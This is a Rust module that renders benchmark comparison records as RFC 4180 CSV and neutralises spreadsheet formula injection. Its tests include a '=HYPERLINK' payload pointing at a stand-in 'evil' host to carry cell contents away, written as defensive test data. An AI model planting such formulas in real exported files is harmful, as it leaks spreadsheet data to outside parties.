//! `--csv`: a line per state and candidate with the table's columns as
//! plain numbers (seconds, fractions), for pandas and spreadsheets. RFC
//! 4180: a header line, comma-separated fields, CRLF line ends, fields with
//! a comma, a quote, a line break or surrounding spaces quoted, quotes
//! doubled. Axis columns are the union of every benchmark's axes (empty
//! where a state has no such axis). A text that a spreadsheet would run as
//! a formula starts with `'`; the bytes of a non-UTF-8 file name show as
//! `\xff`, as on stdout.

use std::borrow::Cow;

use crate::deciding::repetitions::SideStats;
use crate::deciding::report::{Report, StateRecord};
use crate::text::path_text::bytes_escaped;

/// The columns before the axes.
const KEY_COLUMNS: [&str; 5] = ["benchmark", "device", "device_name", "state", "occurrence"];

/// The columns after the axes.
const VALUE_COLUMNS: [&str; 18] = [
    "base",
    "candidate",
    "base_time_s",
    "time_s",
    "base_noise",
    "noise",
    "speedup",
    "delta",
    "sigma",
    "signif",
    "base_reps",
    "reps",
    "status",
    "reason",
    "change_low",
    "change_high",
    "reference_json",
    "compare_json",
];

/// A field as written: safe for a spreadsheet, then quoted where RFC 4180
/// needs it.
fn field(text: &str) -> String {
    let text = bytes_escaped(text);
    let text = not_a_formula(&text);
    let needs_quotes =
        text.contains([',', '"', '\n', '\r']) || text.starts_with(' ') || text.ends_with(' ');
    if needs_quotes {
        format!("\"{}\"", text.replace('"', "\"\""))
    } else {
        text.into_owned()
    }
}

/// Spreadsheets (Excel, LibreOffice, Google Sheets) run a cell that starts
/// with `=`, `+`, `-` or `@` as a formula, and some strip a leading tab or
/// carriage return first: a benchmark named `=HYPERLINK(...)` would become
/// a live link that carries other cells' content away. Such a text gets a
/// leading `'` (OWASP's advice), which spreadsheets show as text. A plain
/// number (`-5`, `-1.5e-7`) is no formula and stays a number.
fn not_a_formula(text: &str) -> Cow<'_, str> {
    let risky = text.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if risky && !is_plain_number(text) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// A decimal number with an optional sign and exponent, nothing else.
fn is_plain_number(text: &str) -> bool {
    let unsigned = text.strip_prefix(['+', '-']).unwrap_or(text);
    let (mantissa, exponent) = match unsigned.split_once(['e', 'E']) {
        Some((mantissa, exponent)) => (mantissa, Some(exponent)),
        None => (unsigned, None),
    };
    let digits = |part: &str| part.bytes().all(|b| b.is_ascii_digit());
    let mantissa_ok = match mantissa.split_once('.') {
        Some((whole, fraction)) => {
            !(whole.is_empty() && fraction.is_empty()) && digits(whole) && digits(fraction)
        }
        None => !mantissa.is_empty() && digits(mantissa),
    };
    let exponent_ok = exponent.is_none_or(|e| {
        let e = e.strip_prefix(['+', '-']).unwrap_or(e);
        !e.is_empty() && digits(e)
    });
    mantissa_ok && exponent_ok
}

/// A number as Rust prints it shortest (it reads back exactly); empty
/// when there is none or it is not finite.
fn number(value: Option<f64>) -> String {
    value
        .filter(|v| v.is_finite())
        .map_or_else(String::new, |v| v.to_string())
}

fn reps(side: Option<&SideStats>) -> String {
    side.map_or_else(|| "1".to_string(), |s| s.reps().to_string())
}

/// The axis names of every record, in order of first appearance.
fn axis_columns(reports: &[Report]) -> Vec<&str> {
    let mut names: Vec<&str> = Vec::new();
    for record in reports.iter().flat_map(|r| &r.records) {
        for axis in record.axis_values.iter() {
            if !names.contains(&axis.name) {
                names.push(axis.name);
            }
        }
    }
    names
}

fn line(record: &StateRecord, axes: &[&str], (base, candidate): (&str, &str)) -> Vec<String> {
    let c = &record.comparison;
    let stats = record.repetitions.as_ref();
    let noise = |side: Option<&SideStats>, pair: Option<f64>| match stats {
        Some(_) => number(side.and_then(|s| s.noise)),
        None => number(pair),
    };
    let delta = match stats {
        Some(stats) => stats.delta,
        None => match (c.ref_time(), c.cmp_time()) {
            (Some(r), Some(m)) if r > 0.0 => Some(m / r - 1.0),
            _ => None,
        },
    };
    let speedup = match (c.ref_time(), c.cmp_time()) {
        (Some(r), Some(m)) if m > 0.0 => Some(r / m),
        _ => None,
    };
    let mut fields = vec![
        record.pair.benchmark.to_string(),
        record.pair.devices.0.to_string(),
        record
            .pair
            .device_names
            .0
            .as_deref()
            .unwrap_or_default()
            .to_string(),
        record.state_key.to_string(),
        record.occurrence.to_string(),
    ];
    fields.extend(axes.iter().map(|name| {
        record
            .axis_values
            .iter()
            .find(|a| a.name == *name)
            .and_then(|a| a.value)
            .map_or_else(String::new, |v| v.py_str())
    }));
    let (low, high) = c.frac_diff_interval().unzip();
    fields.extend([
        base.to_string(),
        candidate.to_string(),
        number(c.ref_time()),
        number(c.cmp_time()),
        noise(stats.map(|s| &s.reference), c.ref_noise()),
        noise(stats.map(|s| &s.compare), c.cmp_noise()),
        number(speedup),
        number(delta),
        number(stats.and_then(|s| s.sigma)),
        number(stats.and_then(|s| s.significance)),
        reps(stats.map(|s| &s.reference)),
        reps(stats.map(|s| &s.compare)),
        c.status.label().trim().to_string(),
        c.reason.code.canonical().to_string(),
        number(low),
        number(high),
        record.pair.reference_json.clone(),
        record.pair.compare_json.clone(),
    ]);
    fields
}

/// The CSV text of every candidate's records; `labels` are the sides'
/// labels, baseline first.
pub fn render_csv(labels: &[String], reports: &[Report]) -> String {
    let axes = axis_columns(reports);
    let header = KEY_COLUMNS
        .iter()
        .copied()
        .chain(axes.iter().copied())
        .chain(VALUE_COLUMNS)
        .map(field)
        .collect::<Vec<_>>()
        .join(",");
    let mut out = header;
    out.push_str("\r\n");
    for (candidate, report) in reports.iter().enumerate() {
        let names = (labels[0].as_str(), labels[candidate + 1].as_str());
        for record in &report.records {
            let fields: Vec<String> = line(record, &axes, names)
                .iter()
                .map(|f| field(f))
                .collect();
            out.push_str(&fields.join(","));
            out.push_str("\r\n");
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fields_are_quoted_as_rfc_4180_says() {
        assert_eq!(field("plain"), "plain");
        assert_eq!(field("a,b"), "\"a,b\"");
        assert_eq!(field("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(field("two\nlines"), "\"two\nlines\"");
        assert_eq!(field(" padded"), "\" padded\"");
        assert_eq!(number(Some(0.1)), "0.1");
        assert_eq!(number(Some(-1.5e-7)), "-0.00000015");
        assert_eq!(number(Some(f64::NAN)), "");
        assert_eq!(number(None), "");
    }

    #[test]
    fn texts_a_spreadsheet_would_run_start_with_a_quote() {
        let link = "=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")";
        assert_eq!(
            field(link),
            "\"'=HYPERLINK(\"\"http://evil/?x=\"\"&A1,\"\"click\"\")\""
        );
        for risky in [
            "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-", "+", "-e5", "1-",
        ] {
            let written = field(risky);
            let unquoted = written.trim_matches('"');
            assert!(
                unquoted.starts_with('\'')
                    || !unquoted.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{risky:?} -> {written:?}"
            );
        }
        for number in ["-5", "+3", "-1.5", "-.5", "-1e3", "-2.5E-7", "0.1", "42"] {
            assert_eq!(field(number), number);
        }
        assert_eq!(field("-1e"), "'-1e");
        assert_eq!(field("-1.2.3"), "'-1.2.3");
    }

    #[test]
    fn odd_file_name_bytes_show_escaped() {
        let name = crate::text::path_text::to_text(std::os::unix::ffi::OsStrExt::from_bytes(
            b"r\xff.json",
        ));
        assert_eq!(field(&name), "r\\xff.json");
    }
}
